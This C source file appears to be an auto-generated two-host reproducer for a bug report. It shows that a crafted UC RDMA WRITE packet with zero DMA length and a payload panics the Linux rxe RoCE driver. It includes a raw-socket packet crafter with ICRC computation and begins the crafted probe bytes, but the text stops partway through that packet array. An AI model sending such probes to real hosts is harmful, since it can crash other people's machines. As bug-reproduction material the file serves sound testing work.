/*
 * Reproducer of: finding: a UC WRITE Only with DMA length 0 and a payload panics rxe
 * Written by `roce repro scenarios/findings/write_dma_len_zero_with_payload_panics/finding.toml`: edit the scenario, not this file.
 *
 * Build:  cc -O2 -o repro repro.c -libverbs
 * Run:    ./repro a on one host (as root: crafted packets need a raw socket),
 *         then ./repro b HOST on the other, HOST being the first's address.
 * Each host needs an RDMA device with a RoCE v2 GID (rxe: `rdma link add rxe0 type rxe netdev IF`).
 *
 * What IBA says should happen (the scenario's expectations):
 *   a: wr_id 99 completes with IBV_WC_SUCCESS
 */

#define NQP 5
#define NMR 5
#define NMW 0
#define NSRQ 0
#define BARRIER_S 11
static const char *const END[2] = { "a", "b" };
static const char *const DEVICE[2] = { 0, 0 };
static const unsigned char PORT[2] = { 1, 1 };
static const int GID_INDEX[2] = { -1, -1 };

/* ---- the reproducer's runtime (the same in every reproducer) ---------------- */

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <infiniband/verbs.h>
#include <netdb.h>
#include <netinet/in.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#define ROCE_V2_PORT 4791
/* Helpers a finding may not use. */
#define HELPER static __attribute__((unused))
#define EXCHANGE_PORT "18515"
/* How long the first end waits for the other to connect. */
#define ACCEPT_S 300
#define ACCEPT_S_TEXT "300"

struct qp_spec {
	const char *name;
	enum ibv_qp_type type;
	uint32_t psn[2];        /* first send PSN of each end */
	unsigned access[2];     /* qp_access_flags of each end */
	enum ibv_mtu mtu;
	uint8_t timeout, retry_cnt, rnr_retry, min_rnr_timer, max_rd_atomic, max_dest_rd_atomic;
	uint32_t qkey, max_send_wr, max_recv_wr, max_sge, max_inline;
	int srq[2];             /* the SRQ each end's QP takes its receives from, or -1 */
};
struct srq_spec {
	const char *name;
	int on;
	uint32_t max_wr, max_sge;
};
struct mr_spec {
	const char *name;
	int on;
	size_t size;
	unsigned access;
	const uint8_t *init;    /* NULL: zeros */
	size_t init_len;        /* bytes at init */
	int repeat;             /* 1: init repeats over the whole MR; 0: it stands once */
};
struct mw_spec {
	const char *name;
	int on;
	enum ibv_mw_type type;
};

/* ---- the finding's objects --------------------------------------------------- */

#define QP_rc 0
#define QP_uc 1
#define QP_ud 2
#define QP_rc_err 3
#define QP_fresh 4
#define MR_b_target 0
#define MR_b_locked 1
#define MR_b_rbuf 2
#define MR_a_lsrc 3
#define MR_b_dst 4
static const uint8_t INIT_b_locked[1] = {
	0x5a,
};
static const uint8_t INIT_a_lsrc[8] = {
	0x6c, 0x69, 0x76, 0x65, 0x6e, 0x65, 0x73, 0x73,
};
static const struct qp_spec QPS[] = {
	{ .name = "rc", .type = IBV_QPT_RC, .psn = { 100, 500 }, .access = { IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_ATOMIC, IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_ATOMIC },
	  .mtu = IBV_MTU_1024, .timeout = 14, .retry_cnt = 7, .rnr_retry = 7, .min_rnr_timer = 12,
	  .max_rd_atomic = 1, .max_dest_rd_atomic = 1, .qkey = 0x11111111, .max_send_wr = 16, .max_recv_wr = 16,
	  .max_sge = 4, .max_inline = 0, .srq = { -1, -1 } },
	{ .name = "uc", .type = IBV_QPT_UC, .psn = { 1000, 5000 }, .access = { IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_ATOMIC, IBV_ACCESS_REMOTE_WRITE },
	  .mtu = IBV_MTU_1024, .timeout = 14, .retry_cnt = 7, .rnr_retry = 7, .min_rnr_timer = 12,
	  .max_rd_atomic = 1, .max_dest_rd_atomic = 1, .qkey = 0x11111111, .max_send_wr = 16, .max_recv_wr = 16,
	  .max_sge = 4, .max_inline = 0, .srq = { -1, -1 } },
	{ .name = "ud", .type = IBV_QPT_UD, .psn = { 1049088, 2097664 }, .access = { IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_ATOMIC, IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_ATOMIC },
	  .mtu = IBV_MTU_1024, .timeout = 14, .retry_cnt = 7, .rnr_retry = 7, .min_rnr_timer = 12,
	  .max_rd_atomic = 1, .max_dest_rd_atomic = 1, .qkey = 0x11111111, .max_send_wr = 16, .max_recv_wr = 16,
	  .max_sge = 4, .max_inline = 0, .srq = { -1, -1 } },
	{ .name = "rc_err", .type = IBV_QPT_RC, .psn = { 2000, 6000 }, .access = { IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_ATOMIC, IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_ATOMIC },
	  .mtu = IBV_MTU_1024, .timeout = 14, .retry_cnt = 7, .rnr_retry = 7, .min_rnr_timer = 12,
	  .max_rd_atomic = 1, .max_dest_rd_atomic = 1, .qkey = 0x11111111, .max_send_wr = 16, .max_recv_wr = 16,
	  .max_sge = 4, .max_inline = 0, .srq = { -1, -1 } },
	{ .name = "fresh", .type = IBV_QPT_RC, .psn = { 1049600, 2098176 }, .access = { IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_ATOMIC, IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_ATOMIC },
	  .mtu = IBV_MTU_1024, .timeout = 14, .retry_cnt = 7, .rnr_retry = 7, .min_rnr_timer = 12,
	  .max_rd_atomic = 1, .max_dest_rd_atomic = 1, .qkey = 0x11111111, .max_send_wr = 16, .max_recv_wr = 16,
	  .max_sge = 4, .max_inline = 0, .srq = { -1, -1 } },
};
static const struct mr_spec MRS[] = {
	{ "target", 1, 64, IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_ATOMIC, NULL, 0, 0 },
	{ "locked", 1, 64, IBV_ACCESS_LOCAL_WRITE, INIT_b_locked, 1, 1 },
	{ "rbuf", 1, 4096, IBV_ACCESS_LOCAL_WRITE, NULL, 0, 0 },
	{ "lsrc", 0, 8, IBV_ACCESS_LOCAL_WRITE, INIT_a_lsrc, 8, 0 },
	{ "dst", 1, 8, IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE, NULL, 0, 0 },
};
static const struct srq_spec SRQS[] = {
	{ 0 },
};
static const struct mw_spec MWS[] = {
	{ 0 },
};


/* What each end tells the other once its objects exist. */
struct facts {
	uint8_t gid[16];
	uint32_t qpn[NQP > 0 ? NQP : 1];
	uint64_t mr_addr[NMR > 0 ? NMR : 1];
	uint32_t mr_rkey[NMR > 0 ? NMR : 1];
};
/* What each end tells the other after every step: its windows' rkeys now. */
struct step_facts {
	uint32_t step;
	uint32_t mw_rkey[NMW > 0 ? NMW : 1];
};

static int me;                 /* 0 or 1: which end this process is */
static int sock = -1;          /* TCP to the other end */
static int raw = -1;           /* raw IPv4 socket for crafted packets */
static struct ibv_context *ctx;
static struct ibv_pd *pd;
static struct ibv_cq *cq;
static uint8_t port = 1;
static int gid_index = -1;
static union ibv_gid my_gid;
static struct facts mine, theirs;
static struct ibv_qp *qp[NQP > 0 ? NQP : 1];
static struct ibv_mr *mr[NMR > 0 ? NMR : 1];
static uint8_t *buf[NMR > 0 ? NMR : 1];
static struct ibv_mw *mw[NMW > 0 ? NMW : 1];
static struct ibv_srq *srq[NSRQ > 0 ? NSRQ : 1];
static uint32_t mw_rkey[NMW > 0 ? NMW : 1];

static void say(const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	vprintf(fmt, ap);
	printf("\n");
	fflush(stdout);
	va_end(ap);
}

static void die(const char *what, int err)
{
	fprintf(stderr, "[%s] %s: %s\n", END[me], what, err ? strerror(err) : "failed");
	exit(2);
}

static void usage(const char *argv0)
{
	fprintf(stderr,
		"usage: %s %s                (first: waits for the other end on TCP %s)\n"
		"       %s %s HOST           (then: HOST is where the first runs)\n"
		"environment: ROCE_DEVICE (default: the scenario's, else the first RDMA device),\n"
		"ROCE_GID_INDEX (default: the scenario's, else the port's RoCE v2 IPv4-mapped GID)\n",
		argv0, END[0], EXCHANGE_PORT, argv0, END[1]);
	exit(64);
}

/* ---- the other end ---------------------------------------------------------- */

static void tcp_connect(const char *host)
{
	struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM, .ai_flags = AI_PASSIVE };
	struct addrinfo *ai;
	int rc = getaddrinfo(host, EXCHANGE_PORT, &hints, &ai);
	if (rc)
		die(gai_strerror(rc), 0);
	if (!host) {
		int one = 1, l = socket(AF_INET, SOCK_STREAM, 0);
		if (l < 0)
			die("socket", errno);
		setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
		if (bind(l, ai->ai_addr, ai->ai_addrlen) || listen(l, 1))
			die("listen on TCP " EXCHANGE_PORT, errno);
		say("waiting for %s on TCP %s", END[1], EXCHANGE_PORT);
		/* Not forever: an other end that never comes is said. */
		struct timeval wait = { .tv_sec = ACCEPT_S };
		setsockopt(l, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
		sock = accept(l, NULL, NULL);
		if (sock < 0 && (errno == EAGAIN || errno == EWOULDBLOCK))
			die("the other end did not connect within " ACCEPT_S_TEXT " s (run it with this host's address)", 0);
		close(l);
	} else {
		for (int i = 0; i < 100; i++) {
			sock = socket(AF_INET, SOCK_STREAM, 0);
			if (sock < 0)
				die("socket", errno);
			if (!connect(sock, ai->ai_addr, ai->ai_addrlen))
				break;
			close(sock);
			sock = -1;
			usleep(100000);
		}
	}
	freeaddrinfo(ai);
	if (sock < 0)
		die("no connection to the other end", errno);
	struct timeval tv = { .tv_sec = BARRIER_S };
	setsockopt(sock, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
}

static void swap_bytes(const void *out, void *in, size_t len)
{
	if (write(sock, out, len) != (ssize_t)len)
		die("write to the other end", errno);
	for (size_t got = 0; got < len;) {
		ssize_t n = read(sock, (uint8_t *)in + got, len - got);
		if (n <= 0) {
			say("the other end stopped answering (%d s): did its kernel crash? (its console, dmesg)", BARRIER_S);
			exit(3);
		}
		got += n;
	}
}

/* Both ends reach this point; each learns the other's windows' rkeys. */
static void barrier(uint32_t step)
{
	struct step_facts out = { .step = step }, in;
	for (int i = 0; i < NMW; i++)
		out.mw_rkey[i] = MWS[i].on == me ? mw_rkey[i] : 0;
	swap_bytes(&out, &in, sizeof out);
	for (int i = 0; i < NMW; i++)
		if (MWS[i].on != me)
			mw_rkey[i] = in.mw_rkey[i];
}

/* ---- the device ----------------------------------------------------------------- */

static int is_roce_v2_ipv4(struct ibv_device *dev, int i, union ibv_gid *g)
{
	static const uint8_t mapped[12] = { 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff };
	if (ibv_query_gid(ctx, port, i, g) || memcmp(g->raw, mapped, 12))
		return 0;
	char path[256], type[32] = "";
	snprintf(path, sizeof path, "/sys/class/infiniband/%s/ports/%u/gid_attrs/types/%d",
		 ibv_get_device_name(dev), port, i);
	FILE *f = fopen(path, "r");
	if (f) {
		if (!fgets(type, sizeof type, f))
			type[0] = 0;
		fclose(f);
	}
	return strncmp(type, "RoCE v2", 7) == 0;
}

static void open_device(void)
{
	int n;
	struct ibv_device **list = ibv_get_device_list(&n);
	struct ibv_device *dev = NULL;
	const char *want = getenv("ROCE_DEVICE") ? getenv("ROCE_DEVICE") : DEVICE[me];
	port = PORT[me];
	for (int i = 0; list && i < n; i++)
		if (!want || !strcmp(want, ibv_get_device_name(list[i]))) {
			dev = list[i];
			break;
		}
	if (!dev)
		die(want ? "no RDMA device of that name (ROCE_DEVICE)" : "no RDMA device (modprobe rdma_rxe; rdma link add rxe0 type rxe netdev IF)", 0);
	ctx = ibv_open_device(dev);
	if (!ctx)
		die("ibv_open_device", errno);
	const char *gi = getenv("ROCE_GID_INDEX");
	if (gi || GID_INDEX[me] >= 0) {
		gid_index = gi ? atoi(gi) : GID_INDEX[me];
		if (ibv_query_gid(ctx, port, gid_index, &my_gid))
			die("ibv_query_gid (ROCE_GID_INDEX)", errno);
	} else {
		struct ibv_port_attr pa;
		if (ibv_query_port(ctx, port, &pa))
			die("ibv_query_port", errno);
		for (int i = 0; i < pa.gid_tbl_len && gid_index < 0; i++)
			if (is_roce_v2_ipv4(dev, i, &my_gid))
				gid_index = i;
		if (gid_index < 0)
			die("no RoCE v2 IPv4-mapped GID on the port: give the netdev an IPv4 address, or set ROCE_GID_INDEX", 0);
	}
	say("device %s, GID index %d (%s)", ibv_get_device_name(dev), gid_index,
	    inet_ntoa((struct in_addr){ .s_addr = *(uint32_t *)&my_gid.raw[12] }));
	ibv_free_device_list(list);
	pd = ibv_alloc_pd(ctx);
	cq = pd ? ibv_create_cq(ctx, 1024, NULL, NULL, 0) : NULL;
	/* Async events (a QP in error, an SRQ's limit) are read as completions are. */
	int fl = fcntl(ctx->async_fd, F_GETFL);
	if (fl < 0 || fcntl(ctx->async_fd, F_SETFL, fl | O_NONBLOCK) < 0)
		die("fcntl (async events)", errno);
	if (!cq)
		die("ibv_alloc_pd / ibv_create_cq", errno);
}

/* INIT, RTR and RTS of QP i with the scenario's attributes, as the agent sets them. */
static int to_init(int i)
{
	const struct qp_spec *s = &QPS[i];
	struct ibv_qp_attr a = { .qp_state = IBV_QPS_INIT, .port_num = port };
	int mask = IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT;
	if (s->type == IBV_QPT_UD) {
		a.qkey = s->qkey;
		mask |= IBV_QP_QKEY;
	} else {
		a.qp_access_flags = s->access[me];
		mask |= IBV_QP_ACCESS_FLAGS;
	}
	return ibv_modify_qp(qp[i], &a, mask);
}

static int to_rtr(int i)
{
	const struct qp_spec *s = &QPS[i];
	struct ibv_qp_attr a = { .qp_state = IBV_QPS_RTR };
	int mask = IBV_QP_STATE;
	if (s->type != IBV_QPT_UD) {
		a.path_mtu = s->mtu;
		a.dest_qp_num = theirs.qpn[i];
		a.rq_psn = s->psn[!me];
		a.ah_attr.is_global = 1;
		a.ah_attr.port_num = port;
		a.ah_attr.grh.sgid_index = gid_index;
		a.ah_attr.grh.hop_limit = 64;
		memcpy(a.ah_attr.grh.dgid.raw, theirs.gid, 16);
		mask |= IBV_QP_AV | IBV_QP_PATH_MTU | IBV_QP_DEST_QPN | IBV_QP_RQ_PSN;
		if (s->type == IBV_QPT_RC) {
			a.max_dest_rd_atomic = s->max_dest_rd_atomic;
			a.min_rnr_timer = s->min_rnr_timer;
			mask |= IBV_QP_MAX_DEST_RD_ATOMIC | IBV_QP_MIN_RNR_TIMER;
		}
	}
	return ibv_modify_qp(qp[i], &a, mask);
}

static int to_rts(int i)
{
	const struct qp_spec *s = &QPS[i];
	struct ibv_qp_attr a = { .qp_state = IBV_QPS_RTS, .sq_psn = s->psn[me] };
	int mask = IBV_QP_STATE | IBV_QP_SQ_PSN;
	if (s->type == IBV_QPT_RC) {
		a.timeout = s->timeout;
		a.retry_cnt = s->retry_cnt;
		a.rnr_retry = s->rnr_retry;
		a.max_rd_atomic = s->max_rd_atomic;
		mask |= IBV_QP_TIMEOUT | IBV_QP_RETRY_CNT | IBV_QP_RNR_RETRY | IBV_QP_MAX_QP_RD_ATOMIC;
	}
	return ibv_modify_qp(qp[i], &a, mask);
}

static void create_objects(void)
{
	for (int i = 0; i < NMR; i++) {
		if (MRS[i].on != me)
			continue;
		buf[i] = calloc(1, MRS[i].size ? MRS[i].size : 1);
		size_t fill = MRS[i].repeat ? MRS[i].size : MRS[i].init_len;
		for (size_t k = 0; MRS[i].init && k < fill; k++)
			buf[i][k] = MRS[i].init[k % MRS[i].init_len];
		mr[i] = ibv_reg_mr(pd, buf[i], MRS[i].size, MRS[i].access);
		if (!mr[i])
			die(MRS[i].name, errno);
		mine.mr_addr[i] = (uintptr_t)buf[i];
		mine.mr_rkey[i] = mr[i]->rkey;
	}
	for (int i = 0; i < NMW; i++) {
		if (MWS[i].on != me)
			continue;
		mw[i] = ibv_alloc_mw(pd, MWS[i].type);
		if (!mw[i])
			die(MWS[i].name, errno);
		mw_rkey[i] = mw[i]->rkey;
	}
	for (int i = 0; i < NSRQ; i++) {
		if (SRQS[i].on != me)
			continue;
		struct ibv_srq_init_attr sa = { .attr = { .max_wr = SRQS[i].max_wr, .max_sge = SRQS[i].max_sge } };
		srq[i] = ibv_create_srq(pd, &sa);
		if (!srq[i])
			die(SRQS[i].name, errno);
	}
	for (int i = 0; i < NQP; i++) {
		const struct qp_spec *s = &QPS[i];
		struct ibv_qp_init_attr ia = {
			.send_cq = cq, .recv_cq = cq, .qp_type = s->type,
			.cap = { .max_send_wr = s->max_send_wr, .max_recv_wr = s->max_recv_wr,
				 .max_send_sge = s->max_sge, .max_recv_sge = s->max_sge,
				 .max_inline_data = s->max_inline },
		};
		if (s->srq[me] >= 0)
			ia.srq = srq[s->srq[me]];
		qp[i] = ibv_create_qp(pd, &ia);
		if (!qp[i])
			die(s->name, errno);
		if (to_init(i))
			die("INIT", errno);
		mine.qpn[i] = qp[i]->qp_num;
	}
	memcpy(mine.gid, my_gid.raw, 16);
}

static void connect_qps(void)
{
	for (int i = 0; i < NQP; i++) {
		if (to_rtr(i))
			die("RTR", errno);
		if (to_rts(i))
			die("RTS", errno);
	}
}

/* ---- what the steps use ----------------------------------------------------- */

HELPER struct ibv_sge sge_of(int m, uint64_t offset, uint32_t len)
{
	return (struct ibv_sge){ .addr = (uintptr_t)buf[m] + offset, .length = len, .lkey = mr[m]->lkey };
}

HELPER uint64_t remote_va(int m, int64_t offset)
{
	return theirs.mr_addr[m] + (uint64_t)offset;
}

HELPER void post_send(int q, struct ibv_send_wr *wr)
{
	struct ibv_send_wr *bad;
	int rc = ibv_post_send(qp[q], wr, &bad);
	if (rc)
		say("ibv_post_send on %s (wr_id %llu) refused: %s", QPS[q].name,
		    (unsigned long long)wr->wr_id, strerror(rc));
}

HELPER void post_recv(int q, uint64_t wr_id, struct ibv_sge *sge, int n)
{
	struct ibv_recv_wr wr = { .wr_id = wr_id, .sg_list = sge, .num_sge = n }, *bad;
	int rc = ibv_post_recv(qp[q], &wr, &bad);
	if (rc)
		say("ibv_post_recv on %s (wr_id %llu) refused: %s", QPS[q].name,
		    (unsigned long long)wr_id, strerror(rc));
}

HELPER void bind_type1(int q, int w, int m, uint64_t offset, uint64_t len, unsigned access, uint64_t wr_id)
{
	struct ibv_mw_bind b = { .wr_id = wr_id, .send_flags = IBV_SEND_SIGNALED,
		.bind_info = { .mr = mr[m], .addr = (uintptr_t)buf[m] + offset, .length = len,
			       .mw_access_flags = access } };
	int rc = ibv_bind_mw(qp[q], mw[w], &b);
	if (rc)
		say("ibv_bind_mw of %s refused: %s", MWS[w].name, strerror(rc));
	mw_rkey[w] = mw[w]->rkey;
}

HELPER void bind_type2(int q, int w, int m, uint64_t offset, uint64_t len, unsigned access, uint64_t wr_id)
{
	uint32_t rkey = ibv_inc_rkey(mw_rkey[w]);
	struct ibv_send_wr wr = { .wr_id = wr_id, .opcode = IBV_WR_BIND_MW, .send_flags = IBV_SEND_SIGNALED,
		.bind_mw = { .mw = mw[w], .rkey = rkey,
			     .bind_info = { .mr = mr[m], .addr = (uintptr_t)buf[m] + offset, .length = len,
					    .mw_access_flags = access } } };
	post_send(q, &wr);
	mw_rkey[w] = rkey;
}

/* Moves QP q to `state`, with new qp_access_flags unless `access` is -1. */
HELPER void modify_state(int q, enum ibv_qp_state state, int access)
{
	struct ibv_qp_attr a = { .qp_state = state };
	int mask = IBV_QP_STATE;
	if (access >= 0) {
		a.qp_access_flags = access;
		mask |= IBV_QP_ACCESS_FLAGS;
	}
	int rc = ibv_modify_qp(qp[q], &a, mask);
	if (rc)
		say("ibv_modify_qp of %s refused: %s", QPS[q].name, strerror(rc));
}

/* Moves QP q to INIT, RTR or RTS with what the transition requires. */
HELPER void modify_to(int q, enum ibv_qp_state state)
{
	int rc = state == IBV_QPS_INIT ? to_init(q) : state == IBV_QPS_RTR ? to_rtr(q) : to_rts(q);
	if (rc)
		say("ibv_modify_qp of %s to state %d refused: %s", QPS[q].name, state, strerror(rc));
}

/* Says the state the device reports for QP q. */
HELPER void query_state(int q)
{
	struct ibv_qp_attr a;
	struct ibv_qp_init_attr ia;
	int rc = ibv_query_qp(qp[q], &a, IBV_QP_STATE, &ia);
	if (rc)
		say("ibv_query_qp of %s refused: %s", QPS[q].name, strerror(rc));
	else
		say("QP %s is in state %d (0 RESET, 1 INIT, 2 RTR, 3 RTS, 4 SQD, 5 SQE, 6 ERR)",
		    QPS[q].name, a.qp_state);
}

/* The address handle of UD QP q's peer, made once. */
HELPER struct ibv_ah *ud_ah(int q)
{
	static struct ibv_ah *ah[NQP > 0 ? NQP : 1];
	if (!ah[q]) {
		struct ibv_ah_attr a = { .is_global = 1, .port_num = port,
			.grh = { .sgid_index = gid_index, .hop_limit = 64 } };
		memcpy(a.grh.dgid.raw, theirs.gid, 16);
		ah[q] = ibv_create_ah(pd, &a);
		if (!ah[q])
			die("ibv_create_ah", errno);
	}
	return ah[q];
}

/* Says each async event the device has raised since the last look. */
static void drain_events(void)
{
	struct ibv_async_event ev;
	while (ibv_get_async_event(ctx, &ev) == 0) {
		say("async event: %s (%d)", ibv_event_type_str(ev.event_type), ev.event_type);
		ibv_ack_async_event(&ev);
	}
}

HELPER void post_srq_recv(int q, uint64_t wr_id, struct ibv_sge *sge, int n)
{
	struct ibv_recv_wr wr = { .wr_id = wr_id, .sg_list = sge, .num_sge = n }, *bad;
	int rc = ibv_post_srq_recv(srq[q], &wr, &bad);
	if (rc)
		say("ibv_post_srq_recv on %s (wr_id %llu) refused: %s", SRQS[q].name,
		    (unsigned long long)wr_id, strerror(rc));
}

HELPER void arm_srq(int q, uint32_t limit)
{
	struct ibv_srq_attr a = { .srq_limit = limit };
	int rc = ibv_modify_srq(srq[q], &a, IBV_SRQ_LIMIT);
	if (rc)
		say("ibv_modify_srq of %s (limit %u) refused: %s", SRQS[q].name, limit, strerror(rc));
}

/* Polls until `count` completions came or `ms` passed; prints each, and each
 * async event. */
HELPER int wait_completions(int count, int ms)
{
	struct timespec t0, t;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	int got = 0;
	for (;;) {
		struct ibv_wc wc;
		drain_events();
		int n = ibv_poll_cq(cq, 1, &wc);
		if (n < 0)
			die("ibv_poll_cq", 0);
		if (n == 1) {
			got++;
			say("completion: wr_id %llu, %s (%d), opcode %d, byte_len %u",
			    (unsigned long long)wc.wr_id, ibv_wc_status_str(wc.status), wc.status,
			    wc.opcode, wc.byte_len);
			if (count > 0 && got >= count)
				return got;
			continue;
		}
		clock_gettime(CLOCK_MONOTONIC, &t);
		if ((t.tv_sec - t0.tv_sec) * 1000 + (t.tv_nsec - t0.tv_nsec) / 1000000 >= ms)
			return got;
		usleep(1000);
	}
}

/* ---- crafted packets ------------------------------------------------------------- */

struct probe {
	int qp;                   /* sent in the name of this QP (its peer is the target) */
	const uint8_t *bytes;     /* BTH .. payload and pad, as the finding sent it */
	size_t len;
	int patch_dest_qp;        /* put the target's QPN in the BTH */
	int deth_at;              /* offset of the DETH (source QP), or -1 */
	int va_at, rkey_at;       /* offsets of the RETH/AtomicETH VA and R_Key, or -1 */
	int ieth_at;              /* offset of the IETH, or -1 */
	int remote_mr, remote_mw; /* what VA and R_Key name (-1: none) */
	int64_t remote_offset;
	int64_t rkey;             /* >= 0: this R_Key, whatever the MR's */
	int udp_src_port;         /* -1: 0xC000 | the QP's low 14 bits */
	int copies;
	int bad_icrc;
	int settle_ms;
};

static uint32_t crc32_update(uint32_t crc, const uint8_t *p, size_t n)
{
	while (n--) {
		crc ^= *p++;
		for (int k = 0; k < 8; k++)
			crc = (crc >> 1) ^ (0xEDB88320u & -(crc & 1));
	}
	return crc;
}

static void put32(uint8_t *p, uint32_t v) { v = htonl(v); memcpy(p, &v, 4); }
static void put64(uint8_t *p, uint64_t v) { put32(p, v >> 32); put32(p + 4, (uint32_t)v); }

/* IBA 7.8.1 and RoCEv2 A17.3.3: CRC-32 over 8 bytes of 0xFF for the LRH, the IPv4
 * header with TOS, TTL and checksum all ones, the UDP header with its checksum all
 * ones, the BTH with byte 4 all ones, and the rest; sent least significant byte first. */
static uint32_t icrc(const uint8_t *ip, size_t len)
{
	uint8_t m[28 + 12];
	memcpy(m, ip, sizeof m);
	m[1] = 0xff;
	m[8] = 0xff;
	m[10] = m[11] = 0xff;
	m[26] = m[27] = 0xff;
	m[28 + 4] = 0xff;
	static const uint8_t lrh[8] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
	uint32_t c = crc32_update(0xffffffffu, lrh, 8);
	c = crc32_update(c, m, sizeof m);
	c = crc32_update(c, ip + sizeof m, len - sizeof m);
	return ~c;
}

HELPER void send_probe(const struct probe *p)
{
	if (raw < 0) {
		raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
		if (raw < 0)
			die("raw socket (needs root or CAP_NET_RAW)", errno);
	}
	size_t len = 20 + 8 + p->len + 4;
	uint8_t *f = calloc(1, len);
	uint8_t *ib = f + 28;
	memcpy(ib, p->bytes, p->len);
	if (p->patch_dest_qp) {
		uint32_t dq = theirs.qpn[p->qp] & 0xffffff;
		ib[5] = dq >> 16, ib[6] = dq >> 8, ib[7] = dq;
	}
	if (p->deth_at >= 0) {
		uint32_t sq = qp[p->qp]->qp_num & 0xffffff;
		ib[p->deth_at + 5] = sq >> 16, ib[p->deth_at + 6] = sq >> 8, ib[p->deth_at + 7] = sq;
	}
	uint64_t va = p->remote_mr >= 0 ? remote_va(p->remote_mr, p->remote_offset) : 0;
	uint32_t rkey = p->rkey >= 0 ? (uint32_t)p->rkey
		: p->remote_mw >= 0 ? mw_rkey[p->remote_mw]
		: p->remote_mr >= 0 ? theirs.mr_rkey[p->remote_mr] : 0;
	if (p->va_at >= 0)
		put64(ib + p->va_at, va);
	if (p->rkey_at >= 0)
		put32(ib + p->rkey_at, rkey);
	if (p->ieth_at >= 0)
		put32(ib + p->ieth_at, rkey);
	uint16_t sport = p->udp_src_port >= 0 ? (uint16_t)p->udp_src_port : (uint16_t)(0xC000 | (qp[p->qp]->qp_num & 0x3fff));
	/* IPv4: DF, ID 1 (a raw socket fills in an ID of 0), TTL 64, no options. */
	f[0] = 0x45;
	f[2] = len >> 8, f[3] = len;
	f[5] = 1;
	f[6] = 0x40;
	f[8] = 64;
	f[9] = IPPROTO_UDP;
	memcpy(f + 12, &mine.gid[12], 4);
	memcpy(f + 16, &theirs.gid[12], 4);
	/* UDP to 4791, checksum 0 (none) */
	f[20] = sport >> 8, f[21] = sport;
	f[22] = ROCE_V2_PORT >> 8, f[23] = ROCE_V2_PORT & 0xff;
	f[24] = (len - 20) >> 8, f[25] = len - 20;
	uint32_t c = icrc(f, len - 4) ^ (p->bad_icrc ? 1 : 0);
	for (int i = 0; i < 4; i++)
		f[len - 4 + i] = c >> (8 * i);
	struct sockaddr_in to = { .sin_family = AF_INET };
	memcpy(&to.sin_addr, &theirs.gid[12], 4);
	for (int i = 0; i < (p->copies > 0 ? p->copies : 1); i++)
		if (sendto(raw, f, len, 0, (struct sockaddr *)&to, sizeof to) != (ssize_t)len)
			die("sendto (raw)", errno);
	free(f);
	usleep(p->settle_ms * 1000);
}

static void run_steps(void);

int main(int argc, char **argv)
{
	if (argc < 2)
		usage(argv[0]);
	if (!strcmp(argv[1], END[0]) && argc == 2)
		me = 0;
	else if (!strcmp(argv[1], END[1]) && argc == 3)
		me = 1;
	else
		usage(argv[0]);
	setvbuf(stdout, NULL, _IOLBF, 0);
	open_device();
	create_objects();
	tcp_connect(me ? argv[2] : NULL);
	swap_bytes(&mine, &theirs, sizeof mine);
	connect_qps();
	barrier(0);
	run_steps();
	/* What is still to complete, then both ends are done. */
	wait_completions(0, 500);
	barrier(~0u);
	say("done");
	return 0;
}

/* ---- the finding's steps ---------------------------------------------------- */

static void run_steps(void)
{
	/* step 1: b: post_recv */
	if (me == 1) {
		struct ibv_sge sge[] = { sge_of(MR_b_rbuf, 0, 1024) };
		post_recv(QP_rc, 1, sge, 1);
	}
	barrier(1);

	/* step 2: b: post_recv */
	if (me == 1) {
		struct ibv_sge sge[] = { sge_of(MR_b_rbuf, 1024, 1024) };
		post_recv(QP_uc, 2, sge, 1);
	}
	barrier(2);

	/* step 3: b: post_recv */
	if (me == 1) {
		struct ibv_sge sge[] = { sge_of(MR_b_rbuf, 2048, 2048) };
		post_recv(QP_ud, 3, sge, 1);
	}
	barrier(3);

	/* step 4: b: modify_qp */
	if (me == 1) {
		modify_state(QP_rc_err, IBV_QPS_ERR, -1);
	}
	barrier(4);

	/* step 5: a: probe */
	if (me == 0) {
		/* probe p13: UC RDMA WRITE Only, PSN 1000 (next from 1000) */
		static const uint8_t pkt[44] = {
			0x2a, 0x40, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0x80, 0x00, 0x03, 0xe8,
			0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
			0x00, 0x00, 0x00, 0x00, 0x47, 0x47, 0x47, 0x47, 0x47, 0x47, 0x47, 0x47,
			0x47, 0x47, 0x47, 0x47, 0x47, 0x47, 0x47, 0x47,
		};
